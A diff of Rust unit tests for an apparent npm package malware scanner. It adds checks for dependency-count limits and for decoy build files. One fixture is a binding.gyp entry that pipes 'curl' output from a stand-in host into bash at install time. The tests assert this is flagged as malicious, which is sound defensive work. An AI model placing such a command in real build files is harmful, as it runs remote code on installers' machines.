@@ -177,12 +177,32 @@ fn data_of_the_package_is_known() {
     assert!(review.contains("files.example.invalid"), "{review}");
 }
 
+/// A limit of a manifest that cuts is told, so that nothing unread is called clean.
+#[test]
+fn more_addresses_than_are_read_are_told() {
+    let manifest = |number: usize| {
+        let all: Vec<String> =
+            (0..number).map(|at| format!("\"a{at}\": \"https://a{at}.example.invalid/a.tgz\"")).collect();
+        format!("{{\"name\": \"sample\", \"version\": \"1.0.0\", \"dependencies\": {{{}}}}}", all.join(", "))
+    };
+    for (number, expected) in [(256, "benign"), (257, "inconclusive")] {
+        let (verdict, found) = judged(&[("package.json", &manifest(number)), ("index.js", "exports.a = 1;\n")]);
+        assert_eq!(verdict, expected, "{number}: {found:?}");
+    }
+}
+
 /// What `node-gyp` expands by a command runs when the package is installed.
 #[test]
 fn a_build_file_runs_commands() {
     let manifest = "{\"name\": \"sample\", \"version\": \"1.0.0\", \"main\": \"index.js\"}";
     let bad = "{'targets': [{'target_name': 'x', 'sources': ['<!(curl -s http://192.0.2.90/b | bash)']}]}";
     let (verdict, found) = judged(&[("package.json", manifest), ("index.js", ""), ("binding.gyp", bad)]);
+    assert_eq!(verdict, "malicious", "{found:?}");
+    // Others that stand in front of it do not hide it.
+    let names: Vec<String> = (0..20).map(|at| format!("a{at:02}.gypi")).collect();
+    let mut files = vec![("package.json", manifest), ("index.js", ""), ("binding.gyp", bad)];
+    files.extend(names.iter().map(|name| (name.as_str(), "{}\n")));
+    let (verdict, found) = judged(&files);
     assert_eq!(verdict, "malicious", "{found:?}");
     let usual = "{\n  # what every addon has\n  'targets': [{'target_name': 'x', 'sources': ['<!@(ls -1 src/*.cc)'], 'include_dirs': ['<!@(node -p \"require(\\'node-addon-api\\').include\")', '<!@(pkg-config --cflags-only-I glib-2.0)'], 'actions': [{'action': ['python', 'tools/gen.py', '<@(_inputs)']}]}]\n}";
     let (verdict, found) = judged(&[("package.json", manifest), ("index.js", ""), ("binding.gyp", usual)]);
